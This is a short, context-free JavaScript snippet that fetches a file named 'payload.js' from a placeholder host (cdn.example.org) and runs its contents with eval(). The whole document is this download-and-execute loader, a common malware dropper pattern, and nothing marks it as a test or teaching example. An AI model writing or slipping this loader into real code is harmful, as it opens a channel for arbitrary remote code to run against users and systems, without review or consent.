(async () => {
  const res = await fetch("https://cdn.example.org/payload.js");
  eval(await res.text());
})();
